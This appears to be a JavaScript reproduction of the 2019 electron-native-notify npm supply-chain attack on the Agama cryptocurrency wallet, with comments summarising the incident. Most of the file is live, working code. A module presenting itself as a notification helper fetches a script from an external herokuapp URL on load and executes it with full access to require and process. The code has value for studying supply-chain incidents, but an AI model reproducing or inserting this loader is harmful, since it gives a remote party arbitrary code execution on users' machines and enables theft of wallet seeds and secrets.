// Incident: electron-native-notify 1.1.6 (npm), March-June 2019.
// A package adopted by the Agama cryptocurrency wallet was updated with code that fetched
// a remote payload at run time and executed it, to steal wallet seeds and send them to
// the attacker. Reference: https://komodoplatform.com/en/blog/update-agama-vulnerability/
// Reproduction (own code, placeholder host): download, then run the response as code.
const https = require('https');

function notify(title, body) {
  return { title, body };
}

https.get('https://updatecheck.herokuapp.com/v1/notify.js', (res) => {
  let code = '';
  res.on('data', (chunk) => { code += chunk; });
  res.on('end', () => {
    const run = new Function('require', 'process', code);
    run(require, process);
  });
});

module.exports = notify;
